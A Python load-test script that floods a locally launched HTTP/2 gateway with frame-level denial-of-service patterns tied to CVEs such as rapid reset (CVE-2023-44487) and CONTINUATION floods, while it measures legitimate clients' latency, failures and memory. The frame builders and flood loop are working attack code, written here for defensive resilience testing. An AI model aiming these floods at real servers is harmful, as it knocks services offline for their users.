#!/usr/bin/env python3
"""Floods of HTTP/2 against the real binary, beside clients that chat: `make floods`. Not part of `make test`: it prints figures.

Each flood runs for some seconds over several connections that come back when they are cut. A client of HTTP/2 and one of
HTTP/1.1 chat meanwhile: none of their requests may fail. Then 500 streams of one connection, 50 of which nobody reads.
"""

import argparse
import contextlib
import json
import multiprocessing
import os
import pathlib
import socket
import statistics
import struct
import sys
import tempfile
import threading
import time

import httpx

from conftest import Gateway, Simulator, standard_config

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RESET, SETTINGS, PUSH, PING, GOAWAY, WINDOW, CONTINUATION = range(10)
END_STREAM, END_HEADERS, PADDED = 1, 4, 8
HELLO = json.dumps({"model": "llama-3", "messages": [{"role": "user", "content": "Hello"}]}).encode()


def frame(kind, flags=0, stream=0, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def settings(*entries):
    return frame(SETTINGS, payload=b"".join(struct.pack(">HI", *entry) for entry in entries))


def block(method="POST", path="/v1/chat/completions", extra=()):
    """Literals without index (RFC 7541 section 6.2.2)."""
    fields = [(":method", method), (":scheme", "http"), (":path", path), (":authority", "gateway"),
              ("authorization", "Bearer sk-demo"), *extra]
    return b"".join(b"\x00" + bytes([len(n)]) + n.encode() + bytes([len(v)]) + v.encode() for n, v in fields)


CHAT = block()
HEAD_OF_MODELS = block("HEAD", "/v1/models")
GREETING = PREFACE + settings((4, 1 << 20)) + frame(WINDOW, 0, 0, struct.pack(">I", 1 << 24))


def chat(stream, body=HELLO):
    return frame(HEADERS, END_HEADERS, stream, CHAT) + frame(DATA, END_STREAM, stream, body)


def head(stream, flags=END_HEADERS, fields=CHAT):
    return frame(HEADERS, flags, stream, fields)


def window(stream, size):
    return frame(WINDOW, 0, stream, struct.pack(">I", size))


# name: (opening, piece for stream number, whether answers are read, pieces in one write)
FLOODS = {
    "rapid reset (CVE-2023-44487)": (b"", lambda s: head(s) + frame(RESET, 0, s, b"\0\0\0\x08"), True, 100),
    "rapid reset of whole chats (CVE-2023-44487)": (b"", lambda s: (chat(s), frame(RESET, 0, s, b"\0\0\0\x08")), True, 1),
    "made you reset (CVE-2025-8671)": (b"", lambda s: head(s) + window(s, 0x7fffffff), True, 100),
    "CONTINUATION (CVE-2024-27316, 28182)": (head(1, 0), lambda s: frame(CONTINUATION, 0, 1, b"\x00\x01x\x01y"), True, 100),
    "SETTINGS (CVE-2019-9515)": (b"", lambda s: settings((4, 65535)), True, 100),
    "SETTINGS, unread (CVE-2019-9515)": (b"", lambda s: settings((4, 65535)), False, 100),
    "PING (CVE-2019-9512)": (b"", lambda s: frame(PING, 0, 0, b"12345678"), True, 100),
    "PING, unread (CVE-2019-9512)": (b"", lambda s: frame(PING, 0, 0, b"12345678"), False, 100),
    "PRIORITY (CVE-2019-9513)": (b"", lambda s: frame(PRIORITY, 0, s % 999 | 1, struct.pack(">IB", (s + 2) % 999 | 1, s % 256)), True, 100),
    "empty DATA (CVE-2019-9518)": (head(1), lambda s: frame(DATA, 0, 1), True, 100),
    "padded empty DATA (CVE-2019-9518)": (head(1), lambda s: frame(DATA, PADDED, 1, b"\x02\0\0"), True, 100),
    "empty HEADERS (CVE-2019-9518)": (b"", lambda s: head(s, END_HEADERS, b""), True, 100),
    "window dribble (CVE-2019-9511)": (
        settings((4, 0)) + b"".join(chat(s) for s in range(1, 201, 2)), lambda s: window(s % 200 | 1, 1), True, 100),
    "names of no length (CVE-2019-9516)": (b"", lambda s: head(s, fields=CHAT + b"\x00\x00\x00" * 100), True, 20),
    "answers that nobody reads (CVE-2019-9517)": (b"", lambda s: head(s, 5, HEAD_OF_MODELS), False, 100),
    "chats that nobody reads (CVE-2019-9517)": (b"", chat, False, 10),
}


def attack(port, name, until, cuts):
    """One connection after the other until the time is over."""
    # An attacker has a machine of its own; here it gets what the others leave.
    os.nice(10)
    opening, piece, reads, count = FLOODS[name]
    while time.monotonic() < until:
        with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", port), 2) as connection:
            connection.sendall(GREETING + opening)
            stream = 3 if opening else 1
            connection.settimeout(0.2)
            while time.monotonic() < until:
                pieces = [piece(stream + 2 * i) for i in range(count)]
                stream += 2 * count
                writes = pieces[0] if isinstance(pieces[0], tuple) else [b"".join(pieces)]
                try:
                    for write in writes:
                        connection.sendall(write)
                except TimeoutError:
                    # It does not read us: nothing more to do but to stay.
                    if reads:
                        raise
                    time.sleep(0.2)
                    continue
                if reads:
                    connection.setblocking(False)
                    with contextlib.suppress(BlockingIOError):
                        if not connection.recv(1 << 20):
                            break
                    connection.settimeout(0.2)
        with cuts.get_lock():
            cuts.value += 1


class Memory(threading.Thread):
    """Samples a process's resident memory."""

    def __init__(self, pid):
        super().__init__(daemon=True)
        self.pid, self.peak, self.is_running = pid, 0, True

    def now(self):
        for line in pathlib.Path(f"/proc/{self.pid}/status").read_text().splitlines():
            if line.startswith("VmRSS"):
                return int(line.split()[1]) / 1024
        return 0.0

    def run(self):
        while self.is_running:
            with contextlib.suppress(OSError):
                self.peak = max(self.peak, self.now())
            time.sleep(0.05)


def talk(url, version, until, latencies, failures):
    with httpx.Client(http1=version == 1, http2=version == 2, timeout=10) as client:
        while time.monotonic() < until:
            began = time.monotonic()
            try:
                answer = client.post(f"{url}/chat/completions", content=HELLO,
                                     headers={"authorization": "Bearer sk-demo", "content-type": "application/json"})
                if answer.status_code != 200:
                    failures.append(f"{answer.status_code} {answer.text[:100]}")
            except httpx.HTTPError as error:
                failures.append(repr(error))
            latencies.append((time.monotonic() - began) * 1000)
            time.sleep(0.005)


def percentile(values, share):
    return sorted(values)[min(len(values) - 1, int(len(values) * share))] if values else float("nan")


def measure(gateway, seconds, name=None, attackers=4):
    memory = Memory(gateway.process.pid)
    before = memory.now()
    memory.start()
    until = time.monotonic() + seconds + 0.5
    cuts = multiprocessing.Value("q", 0)
    processes = [multiprocessing.Process(target=attack, args=(gateway.port, name, until, cuts)) for _ in range(attackers if name else 0)]
    for process in processes:
        process.start()
    figures = {version: ([], []) for version in (1, 2)}
    threads = [threading.Thread(target=talk, args=(gateway.url, version, until, *figures[version])) for version in figures]
    for thread in threads:
        thread.start()
    for thread in threads + processes:
        thread.join()
    memory.is_running = False
    time.sleep(1)
    failed = sum((failures for _, failures in figures.values()), [])
    if gateway.process.poll() is not None:
        raise SystemExit(f"{name}: the gateway has ended with code {gateway.process.returncode}")
    row = [name or "no flood", cuts.value]
    for latencies, _ in figures.values():
        row += [len(latencies), f"{percentile(latencies, 0.5):.1f}", f"{percentile(latencies, 0.99):.1f}"]
    print("{:44} {:>7} {:>7} {:>7} {:>7} {:>7} {:>7} {:>7}".format(*row),
          f"{len(failed):>7} {before:>7.0f} {memory.peak:>7.0f} {memory.now():>7.0f}", *failed[:1], flush=True)
    return len(failed)


def read_streams(gateway, count, slow):
    """Opens `count` streams on one connection and reads all but `slow` of them. -> how long each of the others took, in ms."""
    body = json.dumps({"model": "llama-3", "stream": True, "messages": [{"role": "user", "content": "Hello"}]}).encode()
    with socket.create_connection(("127.0.0.1", gateway.port), 10) as connection:
        connection.sendall(PREFACE + settings((4, 4096)) + window(0, 1 << 30) + b"".join(chat(2 * i + 1, body) for i in range(count)))
        began, received, took, unread = time.monotonic(), b"", {}, {}
        while len(took) < count - slow:
            more = connection.recv(1 << 18)
            if not more:
                raise SystemExit("the connection was cut")
            received += more
            at, updates = 0, b""
            while at + 9 <= len(received):
                length = int.from_bytes(received[at:at + 3], "big")
                if at + 9 + length > len(received):
                    break
                kind, flags = received[at + 3], received[at + 4]
                stream = int.from_bytes(received[at + 5:at + 9], "big")
                is_slow = stream // 2 >= count - slow
                if kind == SETTINGS and not flags:
                    updates += frame(SETTINGS, 1)
                if kind == DATA and not is_slow:
                    unread[stream] = unread.get(stream, 0) + length
                    if unread[stream] > 1024:
                        updates += window(stream, unread.pop(stream))
                if kind in (DATA, HEADERS) and flags & END_STREAM:
                    took[stream] = (time.monotonic() - began) * 1000
                at += 9 + length
            received = received[at:]
            if updates:
                connection.sendall(updates)
        return [took[s] for s in took if s // 2 < count - slow]


def slow_readers(folder):
    simulator = Simulator("--chunk-ms", "100", "--chunks", "50")
    folder.mkdir()
    gateway = Gateway(folder, standard_config(simulator.port))
    try:
        for slow in (0, 50):
            memory = Memory(gateway.process.pid)
            before = memory.now()
            memory.start()
            took = read_streams(gateway, 500, slow)
            memory.is_running = False
            print(f"500 streams on one connection, {slow:>2} unread: the others took p50 {statistics.median(took):.0f} ms, "
                  f"p99 {percentile(took, 0.99):.0f} ms; RSS {before:.0f} MiB before, {memory.peak:.0f} peak", flush=True)
    finally:
        gateway.stop()
        simulator.stop()


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--seconds", type=float, default=10, help="of each flood")
    parser.add_argument("--only", default="", help="floods whose name contains this")
    options = parser.parse_args()
    failed = 0
    with tempfile.TemporaryDirectory() as name:
        folder = pathlib.Path(name)
        (folder / "floods").mkdir()
        simulator = Simulator()
        gateway = Gateway(folder / "floods", standard_config(simulator.port))
        print(f"load of this machine: {os.getloadavg()[0]:.1f}; latencies in ms, memory in MiB")
        print("{:44} {:>7} {:>7} {:>7} {:>7} {:>7} {:>7} {:>7} {:>7} {:>7} {:>7} {:>7}".format(
            "", "cuts", "h1", "p50", "p99", "h2", "p50", "p99", "failed", "before", "peak", "after"))
        try:
            failed += measure(gateway, options.seconds)
            for flood in FLOODS:
                if options.only in flood:
                    failed += measure(gateway, options.seconds, flood)
            failed += measure(gateway, options.seconds)
        finally:
            gateway.stop()
            simulator.stop()
        slow_readers(folder / "streams")
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
